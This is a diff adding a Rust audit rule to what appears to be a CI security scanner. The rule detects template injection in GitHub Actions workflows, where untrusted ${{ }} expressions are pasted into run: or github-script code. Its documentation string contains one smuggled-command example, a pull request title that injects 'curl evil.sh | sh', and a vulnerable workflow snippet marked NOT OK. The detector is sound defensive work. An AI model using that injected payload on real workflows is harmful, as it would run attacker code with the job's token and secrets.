@@ -1,0 +1,123 @@
+//! `ci/template-injection`: `${{ }}` expressions expanded into shell or script code.
+
+use crate::model::{self, Capability};
+use crate::yaml::Node;
+use crate::{Audit, Doc, DocKind, Info};
+use tollgate_model::{Confidence, Finding, Severity};
+
+pub static INFO: Info = Info {
+    id: "ci/template-injection",
+    name: "Template injection into run or script",
+    severity: Severity::High,
+    confidence: Confidence::High,
+    summary: "A `${{ }}` expression whose value an attacker may control is pasted into a `run:` script or an `actions/github-script` script.",
+    docs: r#"GitHub expands `${{ }}` expressions *before* the shell or JavaScript runs, so the value
+becomes code. A pull request title such as `a"; curl evil.sh | sh; echo "` runs on the
+runner with the job's token and secrets. Each context has a capability: free text written
+by outsiders (titles, bodies, branch names, commit messages, `github.head_ref`) is reported
+as high; values set inside the workflow (`steps.*.outputs`, `needs.*.outputs`, `env`,
+`inputs`) are reported with lower severity because their origin is not known; ids, SHAs and
+secrets are not reported.
+
+NOT OK:
+```yaml
+- run: echo "${{ github.event.pull_request.title }}"
+```
+
+OK:
+```yaml
+- run: echo "$TITLE"
+  env:
+    TITLE: ${{ github.event.pull_request.title }}
+```"#,
+    fix: "Pass the value through an environment variable (`env: TITLE: ${{ … }}`) and use `\"$TITLE\"` in the script.",
+    tags: &["SP-23", "CWE-94"],
+    zizmor: Some("template-injection"),
+};
+
+pub struct TemplateInjection;
+
+/// Whether `matrix.<key>` comes from a literal matrix (not from an expression).
+fn literal_matrix(job: Option<&Node>) -> bool {
+    job.and_then(|j| j.get("strategy"))
+        .and_then(|s| s.get("matrix"))
+        .map(|m| m.is_map() && !m.entries().iter().any(|(_, v)| v.text().contains("${{")))
+        .unwrap_or(false)
+}
+
+/// Reports every risky expression of `code` (a `run:` or `script:` scalar).
+pub fn scan_code(
+    doc: &Doc<'_>,
+    info: &Info,
+    code: &Node,
+    route: &str,
+    job: Option<&Node>,
+    out: &mut Vec<Finding>,
+) {
+    let text = code.text();
+    let matrix_fixed = literal_matrix(job);
+    let mut cursor = code.start;
+    for e in model::expressions(text) {
+        let mut worst = Capability::Fixed;
+        let mut culprit = String::new();
+        for c in model::contexts(&e.inner) {
+            let mut cap = model::capability(&c);
+            if c.starts_with("matrix.") && matrix_fixed {
+                cap = Capability::Fixed;
+            }
+            if cap > worst || culprit.is_empty() && cap > Capability::Fixed {
+                worst = cap;
+                culprit = c;
+            }
+        }
+        if worst == Capability::Fixed {
+            continue;
+        }
+        let raw = &text[e.start..e.end];
+        let (start, end) = match doc.src.get(cursor..).and_then(|s| s.find(raw)) {
+            Some(i) => {
+                cursor += i + raw.len();
+                (cursor - raw.len(), cursor)
+            }
+            None => (code.start, code.end),
+        };
+        let mut f = doc.finding_at(
+            info,
+            start,
+            end,
+            route,
+            format!("`{raw}` expands `{culprit}` into code"),
+        );
+        if worst == Capability::Unknown {
+            if culprit.starts_with("inputs.") || culprit.starts_with("github.event.inputs") {
+                f.severity = Severity::Medium;
+                f.confidence = Confidence::Medium;
+            } else {
+                f.severity = Severity::Low;
+                f.confidence = Confidence::Low;
+            }
+        }
+        out.push(f.with_property("context", serde_json::json!(culprit)));
+    }
+}
+
+impl Audit for TemplateInjection {
+    fn info(&self) -> &'static Info {
+        &INFO
+    }
+    fn kinds(&self) -> &'static [DocKind] {
+        &[DocKind::Workflow, DocKind::Action]
+    }
+    fn check(&self, doc: &Doc<'_>, out: &mut Vec<Finding>) {
+        for (job, step) in model::all_steps(doc.root) {
+            if let Some(run) = step.node.get("run") {
+                scan_code(doc, &INFO, run, &format!("{}.run", step.route), job, out);
+            }
+            if model::step_action(step.node).as_deref() == Some("actions/github-script") {
+                if let Some(s) = step.node.get("with").and_then(|w| w.get("script")) {
+                    scan_code(doc, &INFO, s, &format!("{}.with.script", step.route), job, out);
+                }
+            }
+        }
+    }
+}
